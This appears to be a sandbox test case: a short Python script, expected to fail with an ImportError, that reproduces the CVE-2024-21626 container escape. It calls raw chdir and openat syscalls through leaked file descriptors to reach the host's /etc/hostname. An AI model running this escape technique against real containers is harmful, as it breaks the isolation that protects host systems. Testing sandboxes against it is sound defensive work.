# expect: error ImportError
# idea: the door is a folder of the host that was left open in the container
# full: done
# source: CVE-2024-21626
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    got = libc.syscall(ctypes.c_long(number), *wide)
    print(f"ESCAPED: {what} gave {got}" if got >= 0 else f"{what}: errno {ctypes.get_errno()}")
    return got
for number in range(3, 20):
    attempt(f"chdir {number}", 80, f"/proc/self/fd/{number}".encode())
    attempt(f"openat {number}", 257, number, b"../../etc/hostname", 0)
